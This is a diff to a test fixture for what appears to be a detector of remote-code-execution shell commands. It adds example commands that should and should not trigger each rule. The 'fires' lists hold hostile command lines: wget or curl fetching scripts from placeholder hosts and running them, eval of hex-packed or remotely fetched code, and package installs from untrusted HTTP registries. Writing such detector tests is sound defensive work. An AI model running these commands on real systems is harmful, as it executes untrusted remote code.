@@ -12,6 +12,9 @@ export const REMOTE_CODE_EXAMPLES: RuleExamples = {
   },
   'remote-code.download-and-run': {
     fires: [
+      'wget 10.0.0.1/x.sh; sh x.sh',
+      'curl --output-dir /tmp -O x.example/s.sh && bash /tmp/s.sh',
+
       'curl -sL http://h/x.tgz | tar xz -C /tmp && /tmp/x/run',
       'wget http://h/x.zip && unzip -d /tmp/x x.zip && sh /tmp/x/run.sh',
       'curl -o /tmp/x https://x.example/y; chmod 755 /tmp/x',
@@ -79,6 +82,9 @@ export const REMOTE_CODE_EXAMPLES: RuleExamples = {
   },
   'remote-code.interpreter': {
     fires: [
+      'perl -e \'eval pack "H*","7072696e742031"\'',
+      'deno run --allow-all https://x.example/a.ts',
+
       'python3 -c "import os; exec(os.popen(\'curl -s http://h/x\').read())"',
       'perl -MLWP::Simple -e \'eval get("http://x.example/a")\'',
       'ruby -ropen-uri -e \'eval(URI.open("http://x.example/a").read)\'',
@@ -90,6 +96,9 @@ export const REMOTE_CODE_EXAMPLES: RuleExamples = {
       'perl -e \'use LWP::Simple; eval get("http://x")\'',
     ],
     silent: [
+      'deno run https://deno.land/std/examples/welcome.ts',
+      'deno run -A main.ts',
+
       'python3 -c "import os; os.system(\'curl https://h/x -o x\')"',
       'perl -MLWP::Simple -e \'print get("http://x.example/a")\'',
       'ruby -ropen-uri -e \'puts URI.open("http://x.example/a").read\'',
@@ -198,8 +207,19 @@ export const REMOTE_CODE_EXAMPLES: RuleExamples = {
     ],
   },
   'remote-code.untrusted-package': {
-    fires: ['pip install --trusted-host x pkg', 'pip install http://x/a.whl'],
+    fires: [
+      'gem install x --source http://x.example',
+      'pacman -U http://x.example/a.pkg.tar.zst',
+      'npm i --registry http://x.example x',
+      'dnf install http://x.example/a.rpm',
+      'pip install --trusted-host x pkg',
+      'pip install http://x/a.whl',
+    ],
     silent: [
+      'gem install x',
+      'pacman -U a.pkg.tar.zst',
+      'dnf install https://x.example/a.rpm',
+
       'pip install requests',
       'cargo build',
       'npm view x',
